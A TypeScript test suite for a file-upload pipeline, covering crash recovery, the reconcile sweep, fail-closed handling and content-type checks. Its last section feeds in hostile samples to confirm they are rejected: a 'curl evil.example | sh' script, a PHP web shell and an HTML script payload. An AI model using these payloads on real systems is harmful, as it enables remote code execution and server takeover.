import assert from "node:assert/strict";
import fs from "node:fs/promises";
import path from "node:path";
import { afterEach, describe, it } from "node:test";
import { BackendUnavailableError } from "../src/errors.js";
import { receiveGatewayUpload } from "../src/domain/gateway.js";
import { processUpload } from "../src/domain/pipeline.js";
import { deleteFile, fileIdOf } from "../src/domain/files.js";
import { reconcileStaging } from "../src/domain/reconcile.js";
import { cancelUpload } from "../src/domain/cancel.js";
import { issueUpload } from "../src/domain/issue.js";
import type { Principal } from "../src/domain/principal.js";
import type { IssuedUpload } from "../src/domain/upload-routes/upload-route.js";
import { getUploadStatus } from "../src/domain/upload-status.js";
import type { UploadRecord } from "../src/metadata/metadata-store.js";
import type { Services } from "../src/domain/services.js";
import { SluiceError } from "../src/errors.js";
import type { ObjectStore } from "../src/storage/object-store.js";
import { MemoryTicketStore } from "../src/tickets/memory.js";
import { createApiKey } from "../src/domain/api-keys.js";
import { HTML, PNG } from "./helpers/fixtures.js";
import { filesUnder } from "./helpers/server.js";
import { bodyOf, makeServices, type Harness } from "./helpers/services.js";

const principal: Principal = { kind: "key", keyId: "test" };
const open: Harness[] = [];
afterEach(async () => {
  for (const h of open.splice(0)) await h.close();
});
async function harness(options: Parameters<typeof makeServices>[0] = {}) {
  const h = await makeServices(options);
  open.push(h);
  return h;
}

/** Sends bytes to an issued upload's gateway URL, as a client would. */
function sendToGateway(s: Services, issued: IssuedUpload, bytes: Uint8Array = PNG) {
  assert.ok(issued.upload, "a single upload, not a multipart one");
  const url = new URL(issued.upload.url);
  return receiveGatewayUpload(s, {
    id: issued.ticket.id,
    expires: url.searchParams.get("expires") ?? undefined,
    signature: url.searchParams.get("signature") ?? undefined,
    contentType: issued.ticket.contentType,
    contentLength: bytes.byteLength,
    body: bodyOf(bytes),
  });
}

/** Issues an upload and streams PNG bytes through the gateway. */
async function uploaded(h: Harness, bytes: Uint8Array = PNG) {
  const issued = await issueUpload(h.services, principal, { filename: "cat.png", contentType: "image/png", size: bytes.byteLength });
  await sendToGateway(h.services, issued, bytes);
  return issued.ticket;
}

const stagingOf = (h: Harness) => filesUnder(path.join(h.dir, "objects/staging"));
const archiveOf = (h: Harness) => filesUnder(path.join(h.dir, "objects/archive"));

/**
 * Wraps a store so that the process "dies" around the next call of `method`: after doing
 * the work (`after`), or before doing it (`instead`).
 */
function crash(method: "copy" | "delete", when: "after" | "instead") {
  let left = 1;
  return (store: ObjectStore): ObjectStore =>
    new Proxy(store, {
      get(target, prop, receiver) {
        const value = Reflect.get(target, prop, receiver) as unknown;
        if (prop !== method || typeof value !== "function") return typeof value === "function" ? value.bind(target) : value;
        return async (...args: unknown[]) => {
          if (when === "instead" && left-- > 0) throw new Error(`simulated crash before ${method}`);
          const result = await (value as (...a: unknown[]) => Promise<unknown>).apply(target, args);
          if (when === "after" && left-- > 0) throw new Error(`simulated crash after ${method}`);
          return result;
        };
      },
    });
}

describe("processing survives a crash at any step", () => {
  it("after the copy to archive, before the record: a re-run archives exactly once", async () => {
    const h = await harness({ wrapObjects: crash("copy", "after") });
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    let now = await h.services.metadata.getUpload(r.id);
    assert.equal(now?.state, "processing");
    assert.equal(now?.attempts, 1);
    assert.deepEqual(await stagingOf(h), [r.key], "the staging copy is kept until the archive is recorded");
    // The reconcile sweep re-drives it once the backoff is over.
    await reconcileStaging(h.services, { now: (now?.nextAttemptAt ?? 0) + 1 });
    assert.ok(h.queue.queued.some((q) => q.id === r.id));
    await processUpload(h.services, r.id);
    now = await h.services.metadata.getUpload(r.id);
    assert.equal(now?.state, "archived");
    assert.deepEqual(await stagingOf(h), []);
    assert.deepEqual(await archiveOf(h), [r.key]);
    assert.deepEqual(await fs.readFile(path.join(h.dir, "objects/archive", r.key)), PNG);
  });

  it("after the record, before the staging delete: the sweep removes the leftover and keeps the archive", async () => {
    const h = await harness({ wrapObjects: crash("delete", "instead") });
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
    assert.deepEqual(await stagingOf(h), [r.key], "the crash left the staging copy");
    assert.equal((await reconcileStaging(h.services)).removed, 1);
    assert.deepEqual(await stagingOf(h), []);
    assert.deepEqual(await archiveOf(h), [r.key]);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
  });

  it("a dead worker's lease lapses and another worker finishes the file", async () => {
    const h = await harness();
    const r = await uploaded(h);
    const t0 = Date.now();
    const dead = await h.services.metadata.acquireProcessingLease({ id: r.id, owner: "inst_dead", now: t0, leaseMs: 200 });
    assert.ok(dead);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.leaseOwner, "inst_dead", "a live lease is respected");
    await new Promise((res) => setTimeout(res, 250));
    assert.equal((await reconcileStaging(h.services)).redriven, 1);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
  });

  it("two workers processing the same upload at once archive it once", async () => {
    const a = await harness({ instanceId: "inst_a" });
    const b = await makeServices({ shareWith: a, instanceId: "inst_b" });
    open.push(b);
    const r = await uploaded(a);
    await Promise.all([processUpload(a.services, r.id), processUpload(b.services, r.id), processUpload(a.services, r.id)]);
    const final = await a.services.metadata.getUpload(r.id);
    assert.equal(final?.state, "archived");
    assert.equal(final?.attempts, 0);
    assert.deepEqual(await archiveOf(a), [r.key]);
    assert.deepEqual(await stagingOf(a), []);
    // And once more, late: nothing changes.
    await processUpload(b.services, r.id);
    assert.equal((await a.services.metadata.getUpload(r.id))?.archivedAt, final?.archivedAt);
  });

  it("retries a flaky processor with backoff and archives on a later attempt", async () => {
    let calls = 0;
    const h = await harness({
      processors: [
        {
          name: "flaky",
          run: () => {
            if (++calls === 1) throw new Error("temporarily down");
          },
        },
      ],
    });
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    const waiting = await h.services.metadata.getUpload(r.id);
    assert.equal(waiting?.attempts, 1);
    assert.match(waiting?.reason ?? "", /attempt 1 failed: temporarily down/);
    const retry = h.queue.queued.find((q) => q.id === r.id && q.at !== undefined);
    assert.ok(retry?.at && retry.at > Date.now(), "the retry is scheduled in the future");
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.leaseOwner, null);
    assert.equal((await h.services.metadata.findDueForProcessing({ now: Date.now(), limit: 10 })).includes(r.id), false, "not due before its backoff");
    await h.services.metadata.updateUpload(r.id, { nextAttemptAt: Date.now() });
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
    assert.equal(calls, 2);
  });

  it("moves a rejected file to quarantine when one is configured", async () => {
    const h = await harness({ env: { SLUICE_QUARANTINE_BUCKET: "quarantine" }, processors: [{ name: "no", run: () => ({ reject: "nope" }) }] });
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "rejected");
    assert.deepEqual(await filesUnder(path.join(h.dir, "objects/quarantine")), [r.key]);
    assert.deepEqual(await stagingOf(h), []);
    assert.deepEqual(await archiveOf(h), []);
  });
});

describe("the reconcile sweep", () => {
  it("records an arrival nobody reported, then it is processed", async () => {
    const h = await harness();
    const { ticket } = await issueUpload(h.services, principal, { filename: "cat.png", contentType: "image/png", size: PNG.byteLength });
    await h.services.objects.put({ bucket: "staging", key: ticket.key, body: bodyOf(PNG), contentType: "image/png", contentLength: PNG.byteLength });
    const report = await reconcileStaging(h.services);
    assert.equal(report.arrivalsFound, 1);
    assert.equal((await h.services.metadata.getUpload(ticket.id))?.state, "uploaded");
    assert.equal((await h.services.tickets.get(ticket.id))?.state, "consumed", "the URL is used up");
    await processUpload(h.services, ticket.id);
    assert.equal((await h.services.metadata.getUpload(ticket.id))?.state, "archived");
    assert.deepEqual(await reconcileStaging(h.services), { redriven: 0, arrivalsFound: 0, removed: 0, multipartAborted: 0, expired: 0, eventsDeleted: 0 });
  });

  it("reads an unused ticket as expired once its URL has expired", async () => {
    const h = await harness();
    const { ticket } = await issueUpload(h.services, principal, { filename: "a.png", contentType: "image/png", size: 3, expiresIn: 1 });
    assert.equal((await getUploadStatus(h.services, ticket.id)).state, "issued");
    const later = { ...h.services, now: () => ticket.expiresAt + 1 };
    const status = await getUploadStatus(later, ticket.id);
    assert.equal(status.state, "expired");
    assert.equal(status.arrived, false);
    assert.equal(await h.services.metadata.getUpload(ticket.id), undefined, "an unused ticket leaves no record");
  });

  it("removes the late bytes of a cancelled upload", async () => {
    const h = await harness();
    const { ticket } = await issueUpload(h.services, principal, { filename: "a.png", contentType: "image/png", size: PNG.byteLength });
    assert.equal((await cancelUpload(h.services, ticket.id)).state, "cancelled");
    await h.services.objects.put({ bucket: "staging", key: ticket.key, body: bodyOf(PNG), contentType: "image/png", contentLength: PNG.byteLength });
    assert.equal((await reconcileStaging(h.services)).removed, 1);
    assert.deepEqual(await stagingOf(h), []);
    assert.equal(await h.services.metadata.getUpload(ticket.id), undefined);
  });

  it("removes orphans and late uploads for used-up tickets", async () => {
    const h = await harness({ processors: [{ name: "no", run: () => ({ reject: "nope" }) }] });
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "rejected");
    for (const key of ["upl_AAAAAAAAAAAAAAAAAAAAAA/x.bin", "stray.bin", r.key]) {
      await h.services.objects.put({ bucket: "staging", key, body: bodyOf(PNG), contentType: "image/png", contentLength: PNG.byteLength });
    }
    const report = await reconcileStaging(h.services);
    assert.equal(report.removed, 3);
    assert.deepEqual(await stagingOf(h), []);
  });
});

describe("failing closed", () => {
  it("takes the bytes back out when the arrival cannot be recorded, so the URL can be retried", async () => {
    const h = await harness();
    const real = h.services.metadata;
    let down = true;
    const flaky = new Proxy(real, {
      get(target, prop) {
        if (prop === "insertUpload") return (r: UploadRecord) => (down ? Promise.reject(new Error("ECONNREFUSED")) : target.insertUpload(r));
        const value = Reflect.get(target, prop, target) as unknown;
        return typeof value === "function" ? (value as (...a: unknown[]) => unknown).bind(target) : value;
      },
    });
    const s = { ...h.services, metadata: flaky };
    const issued = await issueUpload(s, principal, { filename: "cat.png", contentType: "image/png", size: PNG.byteLength });
    const { ticket } = issued;
    const send = () => sendToGateway(s, issued);
    await assert.rejects(send(), (err: unknown) => err instanceof SluiceError && err.status === 503);
    assert.deepEqual(await stagingOf(h), []);
    assert.equal((await h.services.tickets.get(ticket.id))?.state, "issued", "the claim was released");
    down = false;
    await send();
    assert.equal((await real.getUpload(ticket.id))?.state, "uploaded");
    assert.equal((await h.services.tickets.get(ticket.id))?.state, "consumed");
  });

  class DownTicketStore extends MemoryTicketStore {
    override issue(): Promise<void> {
      return Promise.reject(new Error("ECONNREFUSED"));
    }
    override claim(): never {
      throw new Error("ECONNREFUSED");
    }
  }

  it("issues nothing when the ticket store is down, and leaves no usable record", async () => {
    const h = await harness({ tickets: new DownTicketStore() });
    await assert.rejects(
      issueUpload(h.services, principal, { filename: "a.png", contentType: "image/png", size: 3 }),
      (err: unknown) => err instanceof BackendUnavailableError && err.status === 503 && err.backend === "ticket store",
    );
    const page = await h.services.metadata.listFiles({ limit: 10 });
    assert.deepEqual(page.items, []);
  });
});

describe("what was checked is what is archived", () => {
  /** A processor that, on its first call, puts `replacement` over the staging object it is checking. */
  function swapOnFirstCheck(at: { harness?: Harness }, replacement: Uint8Array) {
    const h = () => at.harness!;
    const seen: number[] = [];
    return {
      seen,
      processor: {
        name: "swapper",
        run: async ({ file }: { file: { id: string; size: number } }) => {
          seen.push(file.size);
          if (seen.length > 1) return;
          const key = (await h().services.metadata.getUpload(file.id))?.key ?? "";
          await h().services.objects.put({ bucket: h().services.config.buckets.staging, key, body: bodyOf(replacement), contentType: "image/png", contentLength: replacement.byteLength });
        },
      },
    };
  }

  it("checks an object replaced during its check again, and never archives bytes that were not checked", async () => {
    const at: { harness?: Harness } = {};
    const html = Buffer.alloc(PNG.byteLength, 0x20);
    html.set(HTML.subarray(0, Math.min(HTML.byteLength, html.byteLength)));
    const swap = swapOnFirstCheck(at, html);
    const h = (at.harness = await harness({ processors: [swap.processor] }));
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    const record = await h.services.metadata.getUpload(r.id);
    assert.equal(record?.state, "rejected", record?.reason ?? "");
    assert.match(record?.reason ?? "", /^type_mismatch/);
    assert.deepEqual(await archiveOf(h), [], "the swapped HTML never reached the archive");
    assert.equal(swap.seen.length, 1, "the replaced bytes were sniffed again (and refused before any processor)");
  });

  it("archives the replacement when it passes its own check, byte for byte", async () => {
    const at: { harness?: Harness } = {};
    // Another PNG's bytes, the same length: the last byte differs.
    const second = Buffer.concat([PNG.subarray(0, -1), Buffer.from([(PNG.at(-1) ?? 0) ^ 0xff])]);
    const swap = swapOnFirstCheck(at, second);
    const h = (at.harness = await harness({ processors: [swap.processor] }));
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
    assert.equal(swap.seen.length, 2, "checked twice: the original, then the replacement");
    const archived = await fs.readFile(path.join(h.dir, "objects/archive", r.key));
    assert.ok(archived.equals(second));
  });
});

describe("staging holds a processed upload's object while its URL could be used at storage", () => {
  /** An upload processed with direct mode's rules, on a clock the test moves. */
  async function processedInDirectMode() {
    const h = await harness();
    let clock = Date.now();
    h.services.now = () => clock;
    h.services.config = { ...h.services.config, uploadMode: "direct" };
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    return { h, r, setClock: (at: number) => (clock = at) };
  }

  it("keeps it after archiving in direct mode, reports it held, and the sweep removes it once the URL is dead", async () => {
    const { h, r, setClock } = await processedInDirectMode();
    assert.equal((await h.services.metadata.getUpload(r.id))?.state, "archived");
    assert.deepEqual(await stagingOf(h), [r.key], "held, so that If-None-Match still finds it");
    assert.equal((await reconcileStaging(h.services)).removed, 0);
    assert.deepEqual(await stagingOf(h), [r.key]);

    setClock(r.expiresAt + 14 * 60_000);
    assert.equal((await reconcileStaging(h.services)).removed, 0, "a request begun before expiry may still be under way");
    setClock(r.expiresAt + 16 * 60_000);
    assert.equal((await reconcileStaging(h.services)).removed, 1);
    assert.deepEqual(await stagingOf(h), []);
    assert.deepEqual(await archiveOf(h), [r.key]);
  });

  it("keeps the key taken with an empty object when the file is deleted while its URL lives", async () => {
    const { h, r, setClock } = await processedInDirectMode();
    await deleteFile(h.services, fileIdOf(r.id));
    assert.deepEqual(await archiveOf(h), [], "the file's bytes are gone");
    assert.equal((await fs.stat(path.join(h.dir, "objects/staging", r.key))).size, 0, "an empty object holds the key, so If-None-Match still refuses a reuse");
    assert.equal((await reconcileStaging(h.services)).removed, 0);
    setClock(r.expiresAt + 16 * 60_000);
    assert.equal((await reconcileStaging(h.services)).removed, 1);
    assert.deepEqual(await stagingOf(h), []);
  });

  it("keeps nothing in gateway mode, where URLs never reach storage", async () => {
    const h = await harness();
    const r = await uploaded(h);
    await processUpload(h.services, r.id);
    assert.deepEqual(await stagingOf(h), []);
    assert.deepEqual(await archiveOf(h), [r.key]);
  });
});

describe("an arrival that failed after its record was written", () => {
  /** The harness's services with some of the ticket and metadata stores' calls failing while `down.x` is set. */
  function failing(h: Harness, down: { consume: boolean; getUpload: boolean }) {
    const proxy = <T extends object>(target: T, fails: (prop: string | symbol) => boolean) =>
      new Proxy(target, {
        get(t, prop) {
          if (fails(prop)) return () => Promise.reject(new Error("ECONNRESET"));
          const value = Reflect.get(t, prop, t) as unknown;
          return typeof value === "function" ? (value as (...a: unknown[]) => unknown).bind(t) : value;
        },
      });
    return {
      ...h.services,
      tickets: proxy(h.services.tickets, (p) => p === "consume" && down.consume),
      metadata: proxy(h.services.metadata, (p) => p === "getUpload" && down.getUpload),
    };
  }

  it("keeps the bytes the record says arrived when the ticket store fails after it: they end archived, and the URL is spent", async () => {
    const h = await harness({ env: { SLUICE_TICKET_LEASE: "1" } });
    const down = { consume: true, getUpload: false };
    const s = failing(h, down);
    const issued = await issueUpload(s, principal, { filename: "cat.png", contentType: "image/png", size: PNG.byteLength });
    await assert.rejects(sendToGateway(s, issued), (err: unknown) => err instanceof SluiceError && err.status === 503);
    assert.deepEqual(await stagingOf(h), [issued.ticket.key], "the recorded bytes stay");
    const record = await h.services.metadata.getUpload(issued.ticket.id);
    assert.equal(record?.state, "uploaded");
    assert.ok((record?.nextAttemptAt ?? 0) > Date.now(), "the sweep leaves it to the claim's holder for one lease");
    await processUpload(s, issued.ticket.id);
    assert.equal((await h.services.metadata.getUpload(issued.ticket.id))?.state, "archived");
    assert.deepEqual(await archiveOf(h), [issued.ticket.key]);

    // The claim of the failed attempt lapses after its lease; a retry then finds the upload archived.
    down.consume = false;
    await new Promise((r) => setTimeout(r, 1100));
    await assert.rejects(sendToGateway(s, issued), (err: unknown) => err instanceof SluiceError && err.status === 410);
    assert.deepEqual(await stagingOf(h), [], "the second upload's bytes are removed");
    assert.equal((await h.services.metadata.getUpload(issued.ticket.id))?.state, "archived");
  });

  it("takes the bytes back out when it cannot tell, and the retried upload on the same URL ends archived (not failed for good)", async () => {
    const h = await harness();
    const down = { consume: true, getUpload: true };
    const s = failing(h, down);
    const issued = await issueUpload(s, principal, { filename: "cat.png", contentType: "image/png", size: PNG.byteLength });
    await assert.rejects(sendToGateway(s, issued), (err: unknown) => err instanceof SluiceError && err.status === 503);
    assert.deepEqual(await stagingOf(h), [], "the bytes were taken back out");
    // Processing finds no bytes, retries, and gives up: the record says failed.
    down.getUpload = false;
    for (let i = 0; i < 3; i++) {
      await h.services.metadata.updateUpload(issued.ticket.id, { nextAttemptAt: Date.now() });
      await processUpload(s, issued.ticket.id);
    }
    assert.equal((await h.services.metadata.getUpload(issued.ticket.id))?.state, "failed");

    down.consume = false;
    await sendToGateway(s, issued);
    const revived = await h.services.metadata.getUpload(issued.ticket.id);
    assert.equal(revived?.state, "uploaded");
    assert.equal(revived?.attempts, 0);
    await processUpload(s, issued.ticket.id);
    assert.equal((await h.services.metadata.getUpload(issued.ticket.id))?.state, "archived");
    assert.deepEqual(await archiveOf(h), [issued.ticket.key]);
    assert.equal((await h.services.tickets.get(issued.ticket.id))?.state, "consumed");
  });
});

describe("content checks, end to end", () => {
  /** Issues an upload of these bytes as `contentType`, streams them through the gateway, and processes it. */
  async function sendAndProcess(h: Harness, who: Principal, bytes: Uint8Array, contentType: string) {
    const issued = await issueUpload(h.services, who, { filename: "f.bin", contentType, size: bytes.byteLength });
    await sendToGateway(h.services, issued, bytes);
    await processUpload(h.services, issued.ticket.id);
    return (await h.services.metadata.getUpload(issued.ticket.id))!;
  }

  it("rejects HTML that starts with a comment, declared text/plain, and never archives it", async () => {
    const h = await harness();
    const record = await sendAndProcess(h, principal, Buffer.from("<!-- x --><script>alert(document.domain)</script>"), "text/plain");
    assert.equal(record.state, "rejected");
    assert.match(record.reason ?? "", /^type_mismatch: declared text\/plain but the content is HTML/);
    assert.deepEqual(await archiveOf(h), []);
    assert.deepEqual(await stagingOf(h), []);
  });

  it("a key scoped to image/* cannot archive a script declared as an image type nobody can detect", async () => {
    const h = await harness();
    const { record: key } = await createApiKey(h.services.metadata, { name: "images", now: Date.now(), scope: { allowedTypes: ["image/*"] } });
    const scoped: Principal = { kind: "key", keyId: key.id, scope: key.scope ?? undefined };
    const record = await sendAndProcess(h, scoped, Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"), "image/x-foo");
    assert.equal(record.state, "rejected");
    assert.match(record.reason ?? "", /^type_not_allowed: image\/x-foo could not be identified .* for the key that issued this upload/);
    assert.deepEqual(await archiveOf(h), []);
    const png = await sendAndProcess(h, scoped, PNG, "image/png");
    assert.equal(png.state, "archived", "an identified image still goes through");
  });

  it("the key's scope holds at processing even where issuing was not asked (a key whose scope lists text/plain only)", async () => {
    const h = await harness();
    const { record: key } = await createApiKey(h.services.metadata, { name: "text", now: Date.now(), scope: { allowedTypes: ["text/plain"] } });
    // Issued as if by a key without a scope: only processing can hold the key to its list.
    const record = await sendAndProcess(h, { kind: "key", keyId: key.id }, PNG, "application/octet-stream");
    assert.equal(record.state, "rejected");
    assert.match(record.reason ?? "", /^type_not_allowed: image\/png is not allowed for the key that issued this upload/);
    assert.deepEqual(await archiveOf(h), []);
  });

  it("SLUICE_ALLOWED_TYPES admits only identified content; text/plain passes its own check", async () => {
    const h = await harness({ env: { SLUICE_ALLOWED_TYPES: "image/*,text/plain" } });
    const foo = await sendAndProcess(h, principal, Buffer.from("<?php system($_GET['c']);"), "image/x-foo");
    assert.equal(foo.state, "rejected");
    assert.match(foo.reason ?? "", /^type_not_allowed: image\/x-foo could not be identified/);
    const binaryAsText = await sendAndProcess(h, principal, Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 0, 1, 2]), "text/plain");
    assert.equal(binaryAsText.state, "rejected", "bytes with NULs are not text/plain");
    const words = await sendAndProcess(h, principal, Buffer.from("just words, and a <b> in the middle\n"), "text/plain");
    assert.equal(words.state, "archived");
    assert.deepEqual(await archiveOf(h), [words.key]);
  });
});
